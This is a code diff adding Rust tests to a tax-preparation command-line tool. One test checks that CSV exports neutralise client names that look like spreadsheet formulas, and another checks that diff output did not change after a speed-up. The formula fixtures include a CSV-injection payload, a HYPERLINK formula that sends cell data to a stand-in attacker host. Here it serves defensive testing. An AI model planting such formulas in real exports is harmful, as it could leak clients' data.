@@ -1474,3 +1474,122 @@ fn two_processes_changing_one_draft_at_once_lose_no_update() {
     );
     let _ = std::fs::remove_dir_all(&dir);
 }
+
+/// The names a spreadsheet would run as formulas (OWASP "CSV injection"), one client each.
+const FORMULA_NAMES: [&str; 4] = [
+    "=HYPERLINK(\"http://attacker.test/?x=\"&A1,\"Open\")",
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+];
+
+/// Whether a CSV field is safe to open in a spreadsheet: it does not start like a formula, or it
+/// is a plain amount or number, or it starts with the neutralising `'`.
+fn spreadsheet_safe(field: &str) -> bool {
+    !field.starts_with(['=', '+', '-', '@', '\t', '\r'])
+        || njtax_engine::csv::is_plain_number(field)
+}
+
+/// Every CSV the command line writes (`batch -o`, `export --format csv`, `handoff --format csv`)
+/// shows a client named like a formula as text: the name with a leading `'`, and no field of any
+/// row starts like a formula unless it is a plain number.
+#[test]
+fn csv_outputs_write_a_name_that_looks_like_a_formula_as_text() {
+    let dir = temp_dir("csv-formulas");
+    let base = std::fs::read_to_string(example("single-renter.ron")).unwrap();
+    let mut files = Vec::new();
+    for (i, name) in FORMULA_NAMES.iter().enumerate() {
+        let ron_name = name.replace('"', "\\\"");
+        let text = base
+            .replace("\"Maria Lopez\"", &format!("\"{ron_name}\""))
+            .replace("\"Harborside Logistics LLC\"", &format!("\"{ron_name}\""));
+        assert_ne!(text, base);
+        let path = dir.join(format!("client-{i}.ron"));
+        std::fs::write(&path, text).unwrap();
+        files.push(path.display().to_string());
+    }
+    let summary = dir.join("summary.csv");
+    let mut args = vec!["batch"];
+    args.extend(files.iter().map(String::as_str));
+    args.extend(["-o", summary.to_str().unwrap()]);
+    let out = njtax(&args);
+    assert!(matches!(out.status.code(), Some(0 | 1)), "{out:?}");
+    let rows = parse_csv(&std::fs::read_to_string(&summary).unwrap());
+    assert_eq!(rows.len(), 1 + FORMULA_NAMES.len());
+    for (row, name) in rows[1..].iter().zip(FORMULA_NAMES) {
+        assert_eq!(row[1], format!("'{name}"), "the name column is text");
+        // The amounts are numbers, as before.
+        for amount in &row[5..9] {
+            assert!(amount.parse::<rust_decimal::Decimal>().is_ok(), "{amount}");
+        }
+    }
+    let mut outputs = vec![std::fs::read_to_string(&summary).unwrap()];
+    for f in &files {
+        for args in [
+            vec!["export", f.as_str(), "--format", "csv"],
+            vec!["handoff", f.as_str(), "--format", "csv"],
+        ] {
+            let out = njtax(&args);
+            assert!(
+                matches!(out.status.code(), Some(0 | 1)),
+                "{args:?}: {out:?}"
+            );
+            outputs.push(String::from_utf8(out.stdout).unwrap());
+        }
+    }
+    for text in &outputs {
+        for row in parse_csv(text) {
+            for field in &row {
+                assert!(spreadsheet_safe(field), "{field:?} in {row:?}");
+            }
+        }
+    }
+    // The hand-off sheet names the taxpayer: as text.
+    let handoff = parse_csv(&outputs[2]);
+    assert!(
+        handoff
+            .iter()
+            .any(|r| r[2] == format!("'{}", FORMULA_NAMES[0])),
+        "{handoff:?}"
+    );
+}
+
+/// `njtax diff` says the same, word for word, as it did before comparing was made fast for
+/// clinic-size drafts (issue 37): each pair under `tests/fixtures/compare-scale/` (example drafts
+/// of every kind, across years, an amended return, and made-up drafts with W-2s and review notes
+/// added, removed and changed) with the text and, where kept, the JSON the earlier code printed.
+#[test]
+fn diff_output_is_unchanged_by_the_faster_comparison() {
+    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/compare-scale");
+    let mut cases: Vec<PathBuf> = std::fs::read_dir(&root)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    cases.sort();
+    assert!(cases.len() >= 15, "{cases:?}");
+    let mut json_checked = 0;
+    for case in &cases {
+        let (old, new) = (case.join("old.ron"), case.join("new.ron"));
+        let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
+        let out = njtax(&["diff", old, new]);
+        let expected = std::fs::read_to_string(case.join("diff.txt")).unwrap();
+        assert_eq!(
+            String::from_utf8(out.stdout).unwrap(),
+            expected,
+            "{}",
+            case.display()
+        );
+        let json = case.join("diff.json");
+        if json.exists() {
+            let out = njtax(&["diff", old, new, "--json"]);
+            assert_eq!(
+                String::from_utf8(out.stdout).unwrap(),
+                std::fs::read_to_string(&json).unwrap(),
+                "{}",
+                case.display()
+            );
+            json_checked += 1;
+        }
+    }
+    assert!(json_checked >= 8);
+}
